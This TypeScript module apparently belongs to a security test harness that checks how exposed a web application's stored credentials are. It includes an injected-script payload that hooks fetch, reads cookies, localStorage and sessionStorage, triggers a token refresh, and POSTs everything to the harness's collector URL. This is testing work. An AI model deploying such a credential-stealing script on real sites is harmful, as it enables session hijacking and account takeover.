import type { Protocol } from '../../../servers/scheme.ts';
import type { Credential, Facts } from '../../exchange.ts';
import type { Browser, Tab } from '../../hooks/browser.ts';
import type { Stage } from '../../stage.ts';
import { fromBodies } from '../clients/client-kept.ts';
import { openBrowser, signInAt } from './browsing.ts';

/** Where the application's page keeps what it must send along itself; a cookie is kept by the browser. */
export type PageStorage = 'cookie' | 'memory' | 'localStorage' | 'sessionStorage';

/** One thing that an injected script got hold of, and from where. */
export interface CapturedCredential {
  readonly source: 'document.cookie' | 'localStorage' | 'sessionStorage' | 'a hooked request' | 'a renewal of its own';
  readonly credential: Credential;
}

/** A page whose requests are proven by a key that no script can take along is attacked as such. */
export const elsewhereForKeys = ({ bound }: { readonly bound?: string }): true | string =>
  bound !== 'key' || 'dpop-premade-proofs tries what a script can do, and carry away, where the page has a key';

/** Where pages of this kind may keep their credential. One that can be renewed need not survive its page. */
export function pageStoragesOf({ credentials, steps }: Protocol): readonly PageStorage[] {
  const bearer = Object.values(credentials).some(({ from }) => from !== 'set-cookie');
  if (!bearer) return ['cookie'];
  return steps.refresh ? ['memory'] : ['memory', 'localStorage', 'sessionStorage'];
}

/**
 * Opens the application's page in a fresh profile, signed in, with its credential in the given place.
 * @returns also when the login was sent: browsers are waited for, and nothing ages meanwhile
 */
export async function openSignedIn(
  stage: Stage,
  place: PageStorage,
): Promise<{ readonly browser: Browser; readonly tab: Tab; readonly sinceMs: number }> {
  const browser = await openBrowser(stage);
  try {
    const tab = await browser.open('app');
    const sinceMs = performance.now();
    const held = fromBodies(stage.target.protocol, await signInAt(stage, tab, stage.victim));
    await tab.go('app');
    const { path, method, headers } = stage.request('me', { as: held });
    await tab.run(application, { place, path, init: { method, headers } });
    return { browser, tab, sinceMs };
  } catch (error) {
    await browser[Symbol.asyncDispose]();
    throw error;
  }
}

/** Runs a script in the page that takes all it can reach and sends it to a stranger. @returns what they then hold. */
export async function capture(stage: Stage, browser: Browser, tab: Tab): Promise<readonly CapturedCredential[]> {
  const { protocol } = stage.target;
  const renewal = protocol.steps.refresh && stage.request('refresh');
  await tab.run(captured, {
    collector: browser.collector,
    renewal: renewal && { path: renewal.path, method: renewal.method },
  });
  const taken: Facts = JSON.parse(browser.collected().at(-1) ?? '{}');
  return artefactsIn(taken, protocol);
}

/** The application: it signs its requests from wherever it keeps its credential. */
const application = `
  const kept = JSON.stringify(given.init);
  if (given.place === 'localStorage') localStorage.setItem('application', kept);
  if (given.place === 'sessionStorage') sessionStorage.setItem('application', kept);
  const inMemory = given.place === 'memory' || given.place === 'cookie' ? kept : undefined;
  const init = () => JSON.parse(inMemory ?? localStorage.getItem('application') ?? sessionStorage.getItem('application'));
  globalThis.application = { me: () => fetch(given.path, init()) };`;

const captured = `
  const genuine = globalThis.fetch;
  const hooked = [];
  globalThis.fetch = (to, init) => {
    hooked.push(init?.headers ?? {});
    return genuine(to, init);
  };
  await application.me();
  const renewed = given.renewal && (await (await genuine(given.renewal.path, given.renewal)).json());
  const taken = {
    renewed,
    cookie: document.cookie,
    localStorage: Object.values(localStorage),
    sessionStorage: Object.values(sessionStorage),
    databases: (await indexedDB.databases()).map(({ name }) => name),
    hooked,
  };
  await genuine(given.collector, { method: 'POST', mode: 'no-cors', body: JSON.stringify(taken) });`;

/** Reads what the script captured, as attackers do who know the application. */
function artefactsIn(taken: Facts, { credentials }: Protocol): CapturedCredential[] {
  return Object.entries(credentials).flatMap(([name, { role, from, in: place }]): CapturedCredential[] => {
    const as = (values: Readonly<Record<string, string>>): Credential => ({ [name]: { role, values } });
    if ('cookies' in place) {
      const jar = Object.fromEntries(
        String(taken.cookie ?? '')
          .split('; ')
          .map((pair) => pair.split(/=(.*)/s)),
      );
      const values = Object.fromEntries(
        place.cookies.flatMap((cookie) => {
          // whoever knows the application knows it under every name
          const value = jar[cookie] ?? jar[cookie.replace('__Host-Http-', '__Host-')];
          return value ? [[cookie, value]] : [];
        }),
      );
      return Object.keys(values).length > 0 ? [{ source: 'document.cookie', credential: as(values) }] : [];
    }
    if (!('header' in place)) return [];
    const token = (text: string) => text.split(`"${place.header}":"${place.prefix}`)[1]?.split('"')[0];
    const renewed = from !== 'set-cookie' && 'json' in from ? Object(taken.renewed)[from.json] : undefined;
    const found: readonly (readonly [CapturedCredential['source'], string | undefined])[] = [
      ['localStorage', token([taken.localStorage].flat().join())],
      ['sessionStorage', token([taken.sessionStorage].flat().join())],
      ['a hooked request', token(JSON.stringify(taken.hooked ?? []))],
      ['a renewal of its own', typeof renewed === 'string' ? renewed : undefined],
    ];
    return found.flatMap(([source, value]) => (value ? [{ source, credential: as({ token: value }) }] : []));
  });
}
